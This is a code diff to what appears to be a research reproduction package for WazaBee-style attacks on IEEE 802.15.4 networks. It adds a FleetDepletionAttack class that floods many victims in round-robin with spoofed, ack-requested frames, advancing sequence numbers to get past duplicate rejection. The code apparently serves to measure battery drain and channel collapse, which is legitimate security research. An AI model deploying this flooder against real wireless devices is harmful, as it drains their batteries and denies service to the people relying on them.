@@ -12,13 +12,13 @@ acknowledges before (and whether or not) it can authenticate.
 
 from __future__ import annotations
 
-from dataclasses import dataclass
-from typing import Optional
+from dataclasses import dataclass, field
+from typing import Optional, Sequence
 
 from repro.core.firmware import WazaBeeFirmware
 from repro.dot15d4.frames import Address, build_data
 
-__all__ = ["EnergyDepletionAttack"]
+__all__ = ["EnergyDepletionAttack", "FleetDepletionAttack"]
 
 
 @dataclass
@@ -67,6 +67,58 @@ class EnergyDepletionAttack:
         frame = build_data(
             source=self.spoofed_source,
             destination=self.target,
+            payload=b"\x00" * 8,
+            sequence_number=self._sequence,
+            ack_request=True,
+        )
+        self.firmware.send_frame(frame, self.channel)
+        self.frames_sent += 1
+        self.firmware.scheduler.schedule(1.0 / self.rate_hz, self._tick)
+
+
+@dataclass
+class FleetDepletionAttack:
+    """The fleet-scale campaign: one flooder rotating over many victims.
+
+    Each tick targets the next address in ``targets`` round-robin, so a
+    single diverted BLE chip spreads ``rate_hz`` ack-requested frames
+    across a whole PAN — every victim pays wake-up + reception + ACK per
+    hit, and the shared channel congests for everyone (the CSMA-CA
+    collapse the campaign measures).  Sequence numbers advance per frame
+    to defeat duplicate rejection.
+    """
+
+    firmware: WazaBeeFirmware
+    targets: Sequence[Address]
+    spoofed_source: Address
+    channel: int
+    rate_hz: float = 200.0
+    frames_sent: int = 0
+    _running: bool = False
+    _sequence: int = 0
+    _cursor: int = 0
+
+    def start(self) -> None:
+        if self.rate_hz <= 0:
+            raise ValueError("rate must be positive")
+        if not self.targets:
+            raise ValueError("need at least one target")
+        if not self._running:
+            self._running = True
+            self.firmware.scheduler.schedule(1.0 / self.rate_hz, self._tick)
+
+    def stop(self) -> None:
+        self._running = False
+
+    def _tick(self) -> None:
+        if not self._running:
+            return
+        target = self.targets[self._cursor % len(self.targets)]
+        self._cursor += 1
+        self._sequence = (self._sequence + 1) & 0xFF
+        frame = build_data(
+            source=self.spoofed_source,
+            destination=target,
             payload=b"\x00" * 8,
             sequence_number=self._sequence,
             ack_request=True,
